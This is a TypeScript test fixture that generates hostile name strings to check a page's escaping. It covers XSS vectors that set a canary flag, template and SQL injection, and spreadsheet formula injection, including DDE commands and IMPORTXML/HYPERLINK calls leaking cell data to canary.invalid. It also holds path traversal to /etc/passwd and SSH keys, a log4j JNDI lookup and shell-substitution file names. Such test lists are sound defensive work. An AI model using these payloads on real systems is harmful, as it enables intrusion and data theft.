/** Words that a supplier, a colleague or an intruder might write where a page expects a name. */

/** Sets the canary that a test looks for. Each form of it is a way to be run. */
const run = "globalThis.__ran=1";

const tags = [
  `<script>${run}</script>`,
  `<SCRIPT SRC="/canary.js"></SCRIPT>`,
  `<script type=module>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<img src=/canary.png onerror="${run}">`,
  `<img/src=/canary.png/onerror=${run}>`,
  `<IMG SRC=x ONERROR=${run}//`,
  `<svg onload="${run}">`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>go</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.__ran=1</script>"></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=a onload=${run}/>#a"></svg>`,
  `<svg><style>@import "/canary.css"</style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>">`,
  `<object data="javascript:${run}">`,
  `<embed src="javascript:${run}">`,
  `<details open ontoggle=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<body onload=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}><option>`,
  `<textarea autofocus onfocus=${run}>`,
  `<marquee onstart=${run}>`,
  `<form action="javascript:${run}"><button>go</button></form>`,
  `<base href="https://canary.invalid/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<link rel=stylesheet href="/canary.css">`,
  `<style>*{display:none}</style>`,
  `<template shadowrootmode=open><script>${run}</script></template>`,
  `<a href="javascript:${run}">go</a>`,
  `<table><tr><td>cell`,
  `<!--><img src=x onerror=${run}>-->`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<?xml-stylesheet href="javascript:${run}"?>`,
  `<div id=main><h1>Another heading</h1></div>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
];

/** What would end the element, attribute or text in which the word stands. */
const endings = [
  "",
  `">`,
  `'>`,
  "</title>",
  "</textarea>",
  "</option></select>",
  "</text></svg>",
  "</desc>",
  "-->",
];

const attributes = [
  `" onmouseover="${run}`,
  `' onmouseover='${run}`,
  `" autofocus onfocus="${run}" x="`,
  `x onclick=${run}`,
  `" style="background:url(/canary.png)" x="`,
  `" class="govuk-button" id="main`,
  `"/><script>${run}</script>`,
  "` onerror=`" + run,
  `" srcdoc="<script>parent.__ran=1</script>`,
  `" href="javascript:${run}`,
];

const templates = [
  `{{constructor.constructor('${run}')()}}`,
  `{{7*7}}`,
  "${" + run + "}",
  `#{${run}}`,
  `<%= ${run} %>`,
  `{%raw%}{{${run}}}{%endraw%}`,
  `[[${run}]]`,
  `@(${run})`,
  `[go](javascript:${run})`,
  `![x](/canary.png)`,
  `<javascript:${run}>`,
  "```html\n<script>" + run + "</script>\n```",
  `# Heading\n\n* item <b>bold</b>`,
  `**bold** _under_ ~~struck~~`,
  `| a | b |\n|---|---|`,
  `[ref]: javascript:${run} "title"`,
  `&{${run}}`,
  `javascript:${run}`,
  `JaVaScRiPt&colon;${run}`,
  `java\tscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `vbscript:msgbox(1)`,
  `//canary.invalid/x`,
  `expression(${run})`,
  `};}*{display:none}/*`,
  `url(javascript:${run})`,
  `\\"};${run};//`,
  `';${run};//`,
  `'+(${run})+'`,
  `*/${run}/*`,
  `<\\/script><script>${run}</script>`,
];

const entities = [
  "&lt;script&gt;globalThis.__ran=1&lt;/script&gt;",
  "&#60;img src=x onerror=globalThis.__ran=1&#62;",
  "&#x3C;svg onload=globalThis.__ran=1&#x3E;",
  "&amp;lt;b&amp;gt;",
  "&quot; onclick=&quot;globalThis.__ran=1",
  "&notanentity;",
  "&#0; &#xD800; &#x110000;",
  "& & &",
  "&&&& &amp &lt",
  "%3Cscript%3E__ran=1%3C/script%3E",
  "\\u003cscript\\u003e__ran=1\\u003c/script\\u003e",
  "\\x3cscript\\x3e__ran=1",
  "+ADw-script+AD4-__ran=1+ADw-/script+AD4-",
  "\uff1cscript\uff1e__ran=1\uff1c/script\uff1e",
  "\u2039script\u203a__ran=1",
  "\u02bcOR 1=1",
];

const invisible = [
  ["right-to-left override", "\u202e"],
  ["left-to-right override", "\u202d"],
  ["right-to-left embedding", "\u202b"],
  ["right-to-left isolate", "\u2067"],
  ["first-strong isolate", "\u2068"],
  ["pop", "\u202c"],
  ["right-to-left mark", "\u200f"],
  ["left-to-right mark", "\u200e"],
  ["zero-width space", "\u200b"],
  ["zero-width joiner", "\u200d"],
  ["zero-width non-joiner", "\u200c"],
  ["word joiner", "\u2060"],
  ["byte order mark", "\ufeff"],
  ["soft hyphen", "\u00ad"],
  ["line separator", "\u2028"],
  ["paragraph separator", "\u2029"],
  ["no-break space", "\u00a0"],
  ["ideographic space", "\u3000"],
  ["Hangul filler", "\u3164"],
  ["tag letter", "\u{e0041}"],
  ["variation selector", "\ufe0f"],
  ["object replacement", "\ufffc"],
  ["replacement", "\ufffd"],
  ["private use", "\ue000"],
  ["no character", "\uffff"],
  ["Arabic", "\u0645\u062f\u064a\u0646\u0629"],
  ["Hebrew", "\u05e2\u05d9\u05e8"],
] as const;

const controls = [0, 1, 7, 8, 9, 10, 11, 12, 13, 14, 26, 27, 31, 127, 128, 133, 144, 159].map(
  (code) => [`control ${code}`, String.fromCharCode(code)] as const,
);

const halves = [
  ["high half", "\ud800"],
  ["low half", "\udc00"],
  ["halves the wrong way round", "\udc00\ud800"],
  ["last high half", "\udbff"],
] as const;

/** First characters by which a spreadsheet takes a cell for a formula, the full-width ones among them. */
export const formulaStarts = [
  "=",
  "+",
  "-",
  "@",
  "\t",
  "\r",
  "\n",
  "\uff1d",
  "\uff0b",
  "\uff0d",
  "\uff20",
  "\u2212",
];

const formulas = [
  "1+1",
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://canary.invalid/?a="&A1,"go")',
  "SUM(1+1)*cmd|' /C notepad'!'A1'",
  'IMPORTXML(CONCAT("https://canary.invalid/",A1),"//a")',
  'WEBSERVICE("https://canary.invalid/")',
  'DDE("cmd";"/C calc";"x")',
  '"=1+1',
];

const paths = [
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
  "....//....//etc/passwd",
  "/etc/passwd",
  "C:\\records\\july.csv",
  "\\\\server\\share\\july.csv",
  "file:///etc/passwd",
  "july.csv\u0000.html",
  "july.csv%00.html",
  "july\u202evsc.exe",
  "july.csv;filename=x.html",
  'july.csv"; filename="x.html',
  "july.csv\r\nSet-Cookie: a=b",
  "CON",
  "NUL.csv",
  ".htaccess",
  "july.csv.",
  "july .csv ",
  "~/.ssh/id",
  "|calc.exe",
  "$(id).csv",
  "`id`.csv",
  "july?.csv",
  "july*.csv",
  "july<1>.csv",
  "july:stream.csv",
  "-rf.csv",
  "\u2024\u2024/\u2024\u2024/etc",
  "july\u2215august.csv",
];

const odd = [
  "__proto__",
  "constructor",
  "hasOwnProperty",
  "toString",
  "undefined",
  "null",
  "NaN",
  "[object Object]",
  "true",
  "0.0",
  "-1",
  "1e309",
  "[c]",
  "[x]",
  "0 or very few",
  'a " b',
  "a ' b",
  "''''''",
  '""""""',
  "a ` b",
  "a \\ b",
  "\\\\\\",
  "\u201csmart\u201d \u2018quotes\u2019",
  "'; DROP TABLE records; --",
  "1 OR 1=1",
  "%s%s%n%x",
  "${jndi:ldap://canary.invalid/a}",
  "; ls -la",
  "a,b;c|d\te",
  'a"b"c',
  "   ",
  "...",
];

const marks = Array.from({ length: 12 }, (_, at) => String.fromCharCode(0x300 + at * 7)).join("");
const long = [
  "W".repeat(2000),
  "very long name ".repeat(150).trim(),
  `<b>${"x".repeat(1500)}</b>`,
  [...Array(300)].map(() => "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}").join(""),
  `Z${marks.repeat(60)}`,
  "\u202e".repeat(300) + "name",
  "(".repeat(800),
  "&lt;".repeat(400),
];

const within = (signs: readonly (readonly [string, string])[]) =>
  signs.flatMap(([name, sign]) => [`${sign}${name}`, `${name.slice(0, 4)}${sign}<b>${name.slice(4)}</b>`]);

/** Every word once, in a fixed order in which kinds take turns. */
export const hostileWords: readonly string[] = [
  ...new Set(
    [
      ...endings.flatMap((ending) => tags.map((tag) => ending + tag)),
      ...attributes,
      ...templates,
      ...entities,
      ...within(invisible),
      ...within(controls),
      ...within(halves),
      ...formulaStarts.flatMap((start) => formulas.map((formula) => start + formula)),
      ...paths,
      ...odd,
      ...[..."aeiou"].map((letter) => letter + marks),
      ...long,
    ].filter((word) => word !== ""),
  ),
];

/** As long, with the same white space in the same places, and nothing in it but letters. */
export function harmlessLike(word: string, index: number): string {
  let seed = (index + 1) * 7919;
  return [...Array(word.length).keys()]
    .map((at) => {
      seed = (seed * 1103515245 + 12345) % 2147483648;
      const sign = word.charAt(at);
      return /\s/.test(sign) ? sign : String.fromCharCode(97 + (Math.floor(seed / 65536) % 26));
    })
    .join("");
}
